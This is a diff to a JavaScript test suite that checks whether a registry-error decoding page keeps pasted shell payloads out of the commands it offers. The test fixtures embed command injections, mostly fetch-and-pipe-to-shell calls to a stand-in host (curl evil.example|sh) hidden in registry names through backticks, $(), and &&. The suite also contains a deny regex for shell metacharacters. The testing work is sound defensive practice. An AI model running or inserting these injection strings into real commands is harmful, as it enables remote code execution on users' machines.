@@ -183,22 +183,28 @@ const INJECTIONS = [
   ['backticks', "DNS lookup to r.azurecr.io`curl${IFS}evil.example|sh` at IP 20.1.2.3 : OK\nAn error occurred: CONNECTIVITY_CHALLENGE_ERROR\n"],
   ['a 403 line with &&', "Looks like you don't have access to registry 'r.azurecr.io && curl evil.example | sh'. To see configured firewall rules, run 'az acr show --query networkRuleSet --name r'.\n"],
   ['a curl line', "$ curl -si https://r.azurecr.io$(curl${IFS}evil.example|sh)/v2/\ncurl: (6) Could not resolve host: r.azurecr.io$(curl${IFS}evil.example|sh)\n"],
+  // Here the plain host before the payload is a host: it may be used, the payload may not.
+  ['a login failure with &&', "Login failed for registry 'r.azurecr.io && curl evil.example|sh'\nAn error occurred: CONNECTIVITY_REFRESH_TOKEN_ERROR\n", { placeholder: false }],
 ];
 
 test('a pasted shell payload never reaches a command; placeholders are shown', async () => {
   const { page, context, errors } = await openPage(shared.browser, shared.base);
-  for (const [name, text] of INJECTIONS) {
+  for (const [name, text, { placeholder = true } = {}] of INJECTIONS) {
     await paste(page, text);
     const findings = await readFindings(page);
     assert.ok(findings.length > 0, `${name}: decoded`);
     const commands = await page.locator('[data-testid=command] code').allInnerTexts();
     assert.ok(commands.length > 0, `${name}: commands offered`);
     for (const c of commands) {
-      assert.doesNotMatch(c, /evil|\$\(|`|&&|;|\|/, `${name}: ${c}`);
+      // Our own templates use `$(az …)` and `$USER`; nothing else of a shell's may appear.
+      const ours = c.replace(/\$\(az acr show -n [a-z0-9<>-]+ --query id -o tsv\)/g, '').replace(/\$USER\b/g, '');
+      assert.doesNotMatch(ours, /evil|IFS|\$|`|&&|;|\|/, `${name}: ${c}`);
     }
     const cards = findings.map((f) => f.text).join('\n');
-    assert.match(cards, /<login-server>/, `${name}: placeholder shown`);
-    assert.match(cards, /login server in your paste is not a valid one/, `${name}: the card says so`);
+    if (placeholder) {
+      assert.match(cards, /<login-server>/, `${name}: placeholder shown`);
+      assert.match(cards, /login server in your paste is not a valid one/, `${name}: the card says so`);
+    }
     // The probe form offers no hostile registry either (a plain host that stands in the paste
     // may be offered: it is what it claims to be).
     for (const offer of await page.locator('[data-testid=use-pasted-registry]').allInnerTexts()) {
